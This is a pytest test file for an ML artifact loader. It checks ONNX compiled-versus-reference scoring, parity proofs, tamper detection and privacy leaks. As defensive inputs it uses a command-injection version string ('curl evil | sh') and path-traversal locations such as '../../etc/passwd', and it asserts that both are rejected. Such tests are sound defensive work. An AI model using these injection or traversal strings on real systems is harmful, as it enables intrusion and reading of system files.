from __future__ import annotations

import getpass
import io
import json
import logging
import os
import shutil
import socket
import subprocess
import sys
import tempfile
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import mlflow.pyfunc
import numpy as np
import onnx
import pandas as pd
import pytest
from onnx import TensorProto, helper
from threadpoolctl import threadpool_limits

from podium.artifact.compiling import compile_pipeline
from podium.artifact.mlflow_model import save_artifact
from podium.artifact.parity import NOT_TRIED, Parity, prove
from podium.artifact.scoring import BrokenArtifact, Scorer, open_scorer
from podium.artifact.scoring.compiled import TOLERANCE, CompiledScorer
from podium.artifact.scoring.manifest import write_manifest
from podium.artifact.scoring.opening import MODEL, PARITY
from tests.artifact.compiled_samples import edited, fitted, trees_of

pytestmark = [
    pytest.mark.filterwarnings("error"),
    pytest.mark.filterwarnings("ignore::DeprecationWarning:mlflow"),
    pytest.mark.filterwarnings("ignore::FutureWarning:mlflow"),
    pytest.mark.filterwarnings("ignore:This process .* is multi-threaded, use of fork"),
]
NOBODY = 65534


@pytest.fixture(autouse=True)
def _one_thread() -> Iterator[None]:
    with threadpool_limits(1):
        yield


def _scorer(task: str = "binary") -> Scorer:
    return fitted("xgboost", task, "text")[0]


def _rows(task: str = "binary") -> list[Any]:
    return list(fitted("xgboost", task, "text")[1].sent)


def _save(folder: Path, parity: Parity, task: str = "binary") -> Path:
    example = pd.DataFrame(_rows(task)[:3])
    save_artifact(_scorer(task), example, folder, parity=parity)
    return folder


@pytest.fixture(scope="module")
def original(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("proved") / "model"
    return _save(folder, prove(*fitted("xgboost", "binary", "text")))


@pytest.fixture
def proved(original: Path, tmp_path: Path) -> Path:
    """An artifact with a compiled form, to do with as one likes."""
    return Path(shutil.copytree(original, tmp_path / "model"))


def _with(folder: Path, name: str, content: bytes) -> Path:
    """The artifact with another file, of which its manifest knows."""
    (folder / name).write_bytes(content)
    write_manifest(folder)
    return folder


def _said(caplog: pytest.LogCaptureFixture) -> list[str]:
    """What the log holds of ours."""
    return [each.getMessage() for each in caplog.records if each.name.startswith("podium.")]


def _opened_with_warning(folder: Path, caplog: pytest.LogCaptureFixture, warning: str) -> None:
    """The reference answers, and the log says why."""
    with caplog.at_level(logging.WARNING):
        opened = open_scorer(folder)
    assert opened.form == "reference"
    assert _said(caplog) == [warning]
    assert opened.score_rows(_rows()) == _scorer().score_rows(_rows())


# Which form answers


@pytest.mark.parametrize("task", ["binary", "multiclass", "regression"])
def test_where_it_was_proved_the_compiled_form_answers(
    task: str, tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    folder = _save(tmp_path / "model", prove(*fitted("xgboost", task, "text")), task)
    opened = open_scorer(folder)
    assert opened.form == "compiled"
    assert not _said(caplog)
    found, expected = opened.score_rows(_rows(task)), _scorer(task).score_rows(_rows(task))
    if task != "regression":
        assert found["prediction"] == expected["prediction"]
    for name in list(expected)[task != "regression" :]:
        np.testing.assert_allclose(found[name], expected[name], rtol=TOLERANCE, atol=TOLERANCE)
    assert json.loads((folder / PARITY).read_text())["compiled"] is True


@pytest.mark.parametrize("parity", [NOT_TRIED, Parity(reason="its booster is gblinear")])
def test_where_it_was_not_proved_the_reference_answers(
    parity: Parity, tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    folder = _save(tmp_path / "model", parity)
    assert open_scorer(folder).form == "reference"
    assert not _said(caplog)
    assert json.loads((folder / PARITY).read_text()) == parity.to_json()
    assert not (folder / MODEL).exists()
    assert "onnxruntime" not in (folder / "requirements.txt").read_text()


@pytest.mark.parametrize("bulk_form", ["compiled", "reference"])
def test_the_form_that_was_faster_in_bulk_is_known(proved: Path, bulk_form: str) -> None:
    document = json.loads((proved / PARITY).read_text()) | {"bulk_form": bulk_form}
    opened = open_scorer(_with(proved, PARITY, json.dumps(document).encode()))
    assert isinstance(opened, CompiledScorer)
    assert opened.bulk_form == bulk_form


def test_an_artifact_from_before_there_were_compiled_forms_still_opens(proved: Path) -> None:
    (proved / PARITY).unlink()
    (proved / MODEL).unlink()
    write_manifest(proved)
    assert open_scorer(proved).form == "reference"


def test_a_model_that_was_not_proved_is_not_used(proved: Path) -> None:
    _with(proved, PARITY, json.dumps(NOT_TRIED.to_json()).encode())
    assert open_scorer(proved).form == "reference"


def test_mlflow_opens_the_compiled_form_by_the_shipped_code(proved: Path) -> None:
    loaded = mlflow.pyfunc.load_model(str(proved))
    assert loaded.get_raw_model().form == "compiled"
    raw = pd.DataFrame(_rows())
    expected = _scorer().score(raw)
    pd.testing.assert_frame_equal(loaded.predict(raw), expected, rtol=TOLERANCE, atol=TOLERANCE)


WITHOUT_ONNXRUNTIME = """
import json, logging, sys
sys.modules["onnxruntime"] = None  # importing it raises ImportError
logging.basicConfig(format="%(levelname)s %(name)s %(message)s")
from podium.artifact.scoring import open_scorer
opened = open_scorer(sys.argv[1])
print(json.dumps([opened.form, opened.score_rows(json.load(sys.stdin))]))
"""


def test_without_onnxruntime_the_reference_answers_and_a_warning_is_logged(proved: Path) -> None:
    done = subprocess.run(
        [sys.executable, "-W", "error", "-c", WITHOUT_ONNXRUNTIME, str(proved)],
        input=json.dumps(_rows()),
        capture_output=True,
        text=True,
        check=True,
        cwd=Path(__file__).parents[2],
    )
    assert json.loads(done.stdout) == ["reference", _scorer().score_rows(_rows())]
    assert done.stderr.startswith(
        "WARNING podium.artifact.scoring.opening scoring without the compiled form: "
    )
    assert len(done.stderr.splitlines()) == 1


# Files that are not what was proved


def _more(proto: Any) -> None:
    leaves = next(a for a in trees_of(proto).attribute if a.name == "target_weights")
    leaves.floats[:] = [value + 0.05 for value in leaves.floats]


def _not_finite(proto: Any) -> None:
    leaves = next(a for a in trees_of(proto).attribute if a.name == "target_weights")
    leaves.floats[:] = [float("nan")] * len(leaves.floats)


OTHERWISE = "scoring without the compiled form: on this machine it answers otherwise"


@pytest.mark.parametrize("change", [_more, _not_finite])
def test_a_model_that_answers_otherwise_here_is_not_used(
    change: Callable[[Any], None], tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    right = prove(*fitted("xgboost", "binary", "text"))
    folder = _save(tmp_path / "model", replace(right, model=edited(right.model, change)))
    _opened_with_warning(folder, caplog, OTHERWISE)


@pytest.mark.parametrize("content", [b"", b"garbage", b"\x08\x08", b"PK\x03\x04" + bytes(100)])
def test_a_model_that_is_none_is_a_broken_artifact(proved: Path, content: bytes) -> None:
    with pytest.raises(BrokenArtifact, match=r"^model.onnx cannot be read: "):
        open_scorer(_with(proved, MODEL, content))


def test_a_cut_model_is_a_broken_artifact(proved: Path) -> None:
    content = (proved / MODEL).read_bytes()
    with pytest.raises(BrokenArtifact, match=r"^model.onnx cannot be read: "):
        open_scorer(_with(proved, MODEL, content[: len(content) // 2]))


@pytest.mark.parametrize("metadata", [None, "{", "[]", '{"schema": 2}', '{"schema": 1}'])
def test_a_model_that_does_not_say_what_it_takes_is_a_broken_artifact(
    proved: Path, metadata: str | None
) -> None:
    def change(proto: Any) -> None:
        del proto.metadata_props[:]
        if metadata is not None:
            helper.set_model_props(proto, {"podium.inputs": metadata})

    content = edited((proved / MODEL).read_bytes(), change)
    with pytest.raises(BrokenArtifact, match=r"^model.onnx (cannot be read: |has other podium)"):
        open_scorer(_with(proved, MODEL, content))


@pytest.mark.parametrize(
    ("estimator", "task", "features", "why"),
    [
        ("xgboost", "binary", "mixed", "does not take|has other podium.inputs"),
        ("xgboost", "multiclass", "text", "does not answer with 1 scores a row"),
        ("linear", "binary", "numeric", "does not take|has other podium.inputs"),
        ("linear", "multiclass", "numeric", "does not take|does not answer with 1 scores a row"),
    ],
)
def test_the_model_of_another_artifact_is_not_used(
    proved: Path, estimator: str, task: str, features: str, why: str
) -> None:
    other = compile_pipeline(fitted(estimator, task, features)[0]).model
    with pytest.raises(BrokenArtifact, match=why):
        open_scorer(_with(proved, MODEL, other))


def test_a_model_that_cannot_be_run_is_a_broken_artifact(proved: Path) -> None:
    def rename(proto: Any) -> None:
        proto.graph.input[0].name = proto.graph.input[0].name + "x"
        for node in proto.graph.node:
            node.input[:] = [f"{name}x" if name == "features" else name for name in node.input]

    content = edited((proved / MODEL).read_bytes(), rename)
    with pytest.raises(BrokenArtifact, match=r"^model.onnx (cannot be|does not take) "):
        open_scorer(_with(proved, MODEL, content))


def test_a_model_that_is_missing_is_a_broken_artifact(proved: Path) -> None:
    (proved / MODEL).unlink()
    with pytest.raises(BrokenArtifact, match=r"model.onnx is missing"):
        open_scorer(proved)
    write_manifest(proved)
    with pytest.raises(BrokenArtifact, match=r"model.onnx is not in the manifest"):
        open_scorer(proved)


@pytest.mark.parametrize("name", [MODEL, PARITY])
def test_a_changed_file_is_a_broken_artifact(proved: Path, name: str) -> None:
    content = bytearray((proved / name).read_bytes())
    content[len(content) // 2] ^= 1
    (proved / name).write_bytes(bytes(content))
    with pytest.raises(BrokenArtifact, match=f"{name} is not the file that was logged"):
        open_scorer(proved)


PROVED = Parity(onnxruntime="1.31.1").to_json()


@pytest.mark.parametrize(
    ("document", "message"),
    [
        ({"schema": 2, "compiled": False}, "its schema is not 1"),
        ({"schema": "1", "compiled": False}, "its schema is not 1"),
        ({"schema": True, "compiled": False}, "its schema is not 1"),
        ({"compiled": True}, "schema"),
        ([], "indices"),
        ({"schema": 1}, "compiled"),
        ({"schema": 1, "compiled": False}, "reason"),
        ({"schema": 1, "compiled": False, "reason": ""}, "where a text should be"),
        ({**PROVED, "compiled": "yes"}, "it proves nothing"),
        ({**PROVED, "compiled": 1}, "it proves nothing"),
        ({**PROVED, "tolerance": 0.5}, "it proves nothing"),
        ({**PROVED, "bulk_form": "quick"}, "neither form"),
        ({**PROVED, "rows": -1}, "number of rows"),
        ({**PROVED, "rows": True}, "number of rows"),
        ({**PROVED, "scale": -1.0}, "a difference"),
        ({**PROVED, "onnxruntime": "1.0`; curl evil | sh `"}, "no version"),
    ],
)
def test_a_proof_that_cannot_be_read_is_a_broken_artifact(
    proved: Path, document: Any, message: str
) -> None:
    with pytest.raises(BrokenArtifact, match=f"^parity.json cannot be read: .*{message}"):
        open_scorer(_with(proved, PARITY, json.dumps(document).encode()))


@pytest.mark.parametrize("content", [b"", b"{", b"\xff", b"[" * 100_000])
def test_a_proof_that_is_no_json_is_a_broken_artifact(proved: Path, content: bytes) -> None:
    with pytest.raises(BrokenArtifact, match=r"parity.json"):
        open_scorer(_with(proved, PARITY, content))


def _inputs_with(change: Any) -> Any:
    def edit(proto: Any) -> None:
        for prop in proto.metadata_props:
            if prop.key == "podium.inputs":
                document = json.loads(prop.value)
                change(document["columns"])
                prop.value = json.dumps(document)

    return edit


@pytest.mark.parametrize(
    "change",
    [
        lambda columns: columns[0].update(categories=["", "1.5"]),
        lambda columns: columns[0].update(name="other"),
        lambda columns: [column.pop("categories", None) for column in columns],
        lambda columns: [c["categories"].reverse() for c in columns if "categories" in c],
        lambda columns: [c.update(categories=[["a"]]) for c in columns if "categories" in c],
        lambda columns: columns.reverse(),
    ],
)
def test_inputs_that_are_not_the_pipelines_are_a_broken_artifact(proved: Path, change: Any) -> None:
    content = edited((proved / MODEL).read_bytes(), _inputs_with(change))
    with pytest.raises(BrokenArtifact, match=r"model.onnx has other podium\.inputs"):
        open_scorer(_with(proved, MODEL, content))


def test_a_decision_that_is_not_the_artifacts_is_a_broken_artifact(proved: Path) -> None:
    def relabel(proto: Any) -> None:
        for prop in proto.metadata_props:
            if prop.key == "podium.decision":
                prop.value = json.dumps({**json.loads(prop.value), "labels": ["no", "yes"]})

    content = edited((proved / MODEL).read_bytes(), relabel)
    with pytest.raises(BrokenArtifact, match=r"model.onnx has other podium\.decision"):
        open_scorer(_with(proved, MODEL, content))


def _with_node(node: Any) -> Any:
    return lambda proto: proto.graph.node.insert(0, node)


_SUBGRAPH = helper.make_graph([], "inner", [], [])


@pytest.mark.parametrize(
    "node",
    [
        helper.make_node("Loop", ["trips", "again"], ["looped"], body=_SUBGRAPH),
        helper.make_node("ConstantOfShape", ["shape"], ["large"]),
        helper.make_node("Cast", ["features"], ["cast"], to=1, body=_SUBGRAPH),
        helper.make_node("Expand", ["features", "shape"], ["expanded"]),
    ],
    ids=lambda node: str(node.op_type),
)
def test_an_operator_that_no_model_of_ours_has_is_refused_before_it_is_built(
    proved: Path, node: Any
) -> None:
    content = edited((proved / MODEL).read_bytes(), _with_node(node))
    with pytest.raises(BrokenArtifact, match=r"no model of ours does|a graph inside an operator"):
        open_scorer(_with(proved, MODEL, content))


def test_functions_in_a_model_are_refused(proved: Path) -> None:
    def add(proto: Any) -> None:
        proto.functions.add(name="f", domain="d")

    content = edited((proved / MODEL).read_bytes(), add)
    with pytest.raises(BrokenArtifact, match="it holds functions"):
        open_scorer(_with(proved, MODEL, content))


def test_a_model_that_only_another_onnxruntime_loads_is_slower_not_broken(
    proved: Path, caplog: pytest.LogCaptureFixture
) -> None:
    def newer(proto: Any) -> None:
        proto.ir_version = 99

    content = edited((proved / MODEL).read_bytes(), newer)
    with pytest.raises(BrokenArtifact, match=r"^model.onnx cannot be read"):
        open_scorer(_with(proved, MODEL, content))
    parity = {**json.loads((proved / PARITY).read_bytes()), "onnxruntime": "99.0"}
    _with(proved, PARITY, json.dumps(parity).encode())
    _opened_with_warning(proved, caplog, OTHERWISE)


# Files beside the model


def _with_data_in(location: str, *, as_node: bool) -> bytes:
    """A model whose answer is in another file."""
    weight = TensorProto(name="weight", data_type=TensorProto.DOUBLE, dims=[1, 64])
    weight.data_location = TensorProto.EXTERNAL
    for key, value in {"location": location, "offset": "0", "length": "512"}.items():
        weight.external_data.add(key=key, value=value)
    takes = helper.make_tensor_value_info("features", TensorProto.DOUBLE, ["rows", 1])
    gives = helper.make_tensor_value_info("scores", TensorProto.DOUBLE, ["rows", 64])
    nodes = [helper.make_node("Add", ["features", "weight"], ["scores"])]
    if as_node:
        nodes.insert(0, helper.make_node("Constant", [], ["weight"], value=weight))
    graph = helper.make_graph(
        nodes, "podium", [takes], [gives], initializer=[] if as_node else [weight]
    )
    model = helper.make_model(graph, ir_version=8, opset_imports=[helper.make_opsetid("", 17)])
    columns = [{"name": "number", "kind": "numeric", "parts": []}]
    inputs = json.dumps({"schema": 1, "columns": columns})
    helper.set_model_props(model, {"podium.inputs": inputs})
    return bytes(model.SerializeToString())


@pytest.mark.parametrize("as_node", [False, True])
@pytest.mark.parametrize(
    "location",
    [
        "../../etc/passwd",
        "/etc/passwd",
        "../outside",
        "beside",
        "model.onnx",
        "inner/beside",
        "link",
    ],
)
def test_a_model_that_reads_other_files_is_a_broken_artifact(
    proved: Path, location: str, as_node: bool, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Wherever the process runs: not even files of the working directory are read."""
    here = tmp_path / "here"
    (here / "inner").mkdir(parents=True)
    for name in ("here/beside", "here/model.onnx", "here/inner/beside", "outside"):
        np.arange(64.0).tofile(tmp_path / name)
    (here / "link").symlink_to(tmp_path / "outside")
    monkeypatch.chdir(here)
    content = _with_data_in(location, as_node=as_node)
    with pytest.raises(BrokenArtifact, match=r"^model.onnx cannot be read: "):
        open_scorer(_with(proved, MODEL, content))


# Other places, other users


def test_a_read_only_copy_elsewhere_opens_and_nothing_is_written(
    proved: Path, tmp_path: Path
) -> None:
    moved = Path(shutil.move(proved, tmp_path / "else" / "where"))
    for path in (*moved.rglob("*"), moved):
        path.chmod(0o555 if path.is_dir() else 0o444)
    before = {path: path.stat() for path in moved.rglob("*")}
    try:
        opened = open_scorer(moved)
        assert opened.form == "compiled"
        assert opened.score_rows(_rows()[:1])["prediction"]
        after = {path: path.stat() for path in moved.rglob("*")}
        assert [s.st_mtime_ns for s in after.values()] == [s.st_mtime_ns for s in before.values()]
        assert list(after) == list(before)
    finally:
        for path in (moved, *moved.rglob("*")):
            path.chmod(0o755 if path.is_dir() else 0o644)


def test_another_user_opens_a_read_only_copy(original: Path) -> None:
    if not hasattr(os, "fork") or os.geteuid() != 0:
        pytest.skip("only root can become another user")
    with tempfile.TemporaryDirectory() as scratch:
        Path(scratch).chmod(0o755)
        folder = Path(shutil.copytree(original, Path(scratch) / "model"))
        for path in (*folder.rglob("*"), folder):
            path.chmod(0o555 if path.is_dir() else 0o444)
        open_scorer(folder).score_rows(_rows())  # imports all that nobody may not read
        answer = _as_nobody(folder)
    assert answer == ["compiled", True, open_scorer(original).score_rows(_rows())]


def _as_nobody(folder: Path) -> Any:
    """What a process of the user nobody says of the artifact."""
    ours, theirs = os.pipe()
    if (child := os.fork()) == 0:
        try:
            os.close(ours)
            os.setgroups([])
            os.setgid(NOBODY)
            os.setuid(NOBODY)
            opened = open_scorer(folder)
            is_other = not os.access(folder, os.W_OK)
            said = json.dumps([opened.form, is_other, opened.score_rows(_rows())])
        except BaseException as error:  # noqa: BLE001 - nothing of the child may run on
            said = json.dumps(repr(error))
        os.write(theirs, said.encode())
        os._exit(0)
    os.close(theirs)
    with os.fdopen(ours, "rb") as pipe:
        said = pipe.read().decode()
    assert os.waitpid(child, 0)[1] == 0
    return json.loads(said)


def _contents(folder: Path) -> Iterator[tuple[str, bytes]]:
    """Every file, and what lies inside archives."""
    for path in (path for path in folder.rglob("*") if path.is_file()):
        content = path.read_bytes()
        yield str(path.relative_to(folder)), content
        if zipfile.is_zipfile(path):
            with zipfile.ZipFile(io.BytesIO(content)) as archive:
                yield from ((f"{path.name}/{n}", archive.read(n)) for n in archive.namelist())


def _of_this_machine(folder: Path) -> list[bytes]:
    paths = [Path.home(), Path.cwd(), folder.parent, tempfile.gettempdir(), sys.prefix]
    paths += [sys.base_prefix, Path(onnx.__file__).parent, Path(__file__).parents[2]]
    known = {os.fsencode(path) for path in paths} | {
        os.fsencode(os.path.realpath(p)) for p in paths
    }
    host = socket.gethostname().encode()
    return [*(path + b"/" for path in known), *([host] if len(host) > 4 else [])]  # else by chance


@pytest.mark.parametrize(
    "parity",
    [
        pytest.param(None, id="compiled"),
        pytest.param(Parity(reason="its booster is gblinear"), id="not compiled"),
    ],
)
def test_no_file_holds_a_path_or_the_name_of_this_machine(
    parity: Parity | None, original: Path, tmp_path: Path
) -> None:
    folder = original if parity is None else _save(tmp_path / "model", parity)
    contents = dict(_contents(folder))
    assert {"MLmodel", PARITY, "podium.manifest.json", "pipeline.skops"} <= set(contents)
    assert (MODEL in contents) == (parity is None)
    for name, content in contents.items():
        assert not [needle for needle in _of_this_machine(folder) if needle in content], name


def test_no_file_of_ours_holds_the_name_of_the_user(original: Path) -> None:
    user = getpass.getuser().encode()
    for name, content in _contents(original):
        if not name.startswith("code/"):  # "root" is a word, too
            assert user not in content, name


def test_a_reason_holds_no_path_of_this_machine() -> None:
    """XGBoost's errors end in a trace of the libraries that it was called through."""
    scorer, rows = fitted("xgboost", "binary", "mixed")
    model = scorer.pipeline.named_steps["model"]
    whole = model.get_booster()
    try:
        model._Booster = type(whole)(params={"booster": "gblinear"})
        reason = prove(scorer, rows).reason
    finally:
        model._Booster = whole
    assert reason
    for needle in (os.fsencode(sys.prefix), os.fsencode(Path.home()), b"\n"):
        assert needle not in reason.encode()
